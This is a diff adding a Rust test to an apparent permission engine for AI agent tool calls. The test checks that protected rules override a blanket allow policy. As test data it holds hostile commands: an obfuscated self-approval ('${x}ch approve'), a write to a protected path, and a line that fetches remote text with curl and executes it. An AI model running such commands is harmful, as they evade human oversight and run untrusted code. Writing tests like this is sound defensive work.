@@ -321,3 +321,22 @@ fn paths_inside_code_and_split_paths_are_caught() {
     let args = json!({"dir": "~/.config", "name": "latch/policy.toml", "content": "x"});
     assert!(denied(check_in("write_file", Class::Write, &args, "/srv/app")));
 }
+
+#[test]
+fn a_policy_that_allows_everything_still_denies_and_asks() {
+    let mut p = crate::policy::Policy::parse("[[rule]]\ntool = \"*\"\neffect = \"allow\"\n").unwrap();
+    p.set_protected(protected());
+    let e = env("/srv/app");
+    let place = Place { env: &e, resolver: Some(&Fs) };
+    let decide = |cmd: &str| {
+        let args = json!({ "command": cmd });
+        let call = Call { server: "sh", tool: "run_command", args: &args };
+        p.evaluate_in(&call, &cls(Class::Execute), &[], place).decision
+    };
+    use crate::class::Decision;
+    assert_eq!(decide("ls -la"), Decision::Allow);
+    assert_eq!(decide("x=lat; ${x}ch approve 3"), Decision::Deny);
+    assert_eq!(decide("echo x > /tmp/hard"), Decision::Deny);
+    assert_eq!(decide("kill $(cat /tmp/app.pid)"), Decision::Ask);
+    assert_eq!(decide("$(curl -s http://x/y) --flag"), Decision::Ask);
+}
